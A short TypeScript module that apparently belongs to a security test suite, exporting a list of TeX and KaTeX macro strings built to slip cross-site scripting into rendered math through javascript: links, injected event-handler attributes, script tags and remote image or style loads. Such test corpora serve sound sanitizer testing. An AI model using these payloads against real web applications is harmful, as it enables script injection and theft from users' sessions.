import { family } from "./payload";

const raw = String.raw;

/** TeX macros that make links, images, attributes or characters. */
export const tex = family("TeX", 1300, [
  raw`$\href{javascript:RUN}{x}$`,
  raw`\href{javascript:RUN}{click}`,
  raw`$\url{javascript:RUN}$`,
  raw`\url{javascript:RUN}`,
  raw`$\includegraphics{https:HOST}$`,
  raw`\includegraphics[width=1em]{https:HOST}`,
  raw`$\htmlData{onclick=RUN}{x}$`,
  raw`$\data{x="onmouseover=RUN}{x}$`,
  raw`$\class{" onmouseover="RUN}{x}$`,
  raw`$\id{x" onmouseover="RUN}{x}$`,
  raw`$\style{background:url(https:HOST)}{x}$`,
  raw`$\htmlStyle{background:url(https:HOST)}{x}$`,
  raw`$\unicode{x3C}img src=x onerror=RUN\unicode{x3E}$`,
  raw`$\char"3C img src=x onerror=RUN \char"3E$`,
  raw`\char"3C\relax img src=x onerror=RUN\char"3E`,
  raw`$\text{<img src=x onerror=RUN>}$`,
  raw`$$\text{</math><img src=x onerror=RUN>}$$`,
  raw`$\textcolor{red" onmouseover="RUN}{x}$`,
  raw`$\color{url(https:HOST)}x$`,
  raw`$\tag{<script>RUN</script>}x$`,
  raw`$\def\x{<img src=x onerror=RUN>}\x$`,
  raw`\emph{<img src=x onerror=RUN>}`,
  raw`\textbf{\href{data:text/html,<script>RUN</script>}{click}}`,
  raw`$\verb|<img src=x onerror=RUN>|$`,
  raw`$<script>RUN</script>$`,
  raw`$\error{<img src=x onerror=RUN>$`,
]);
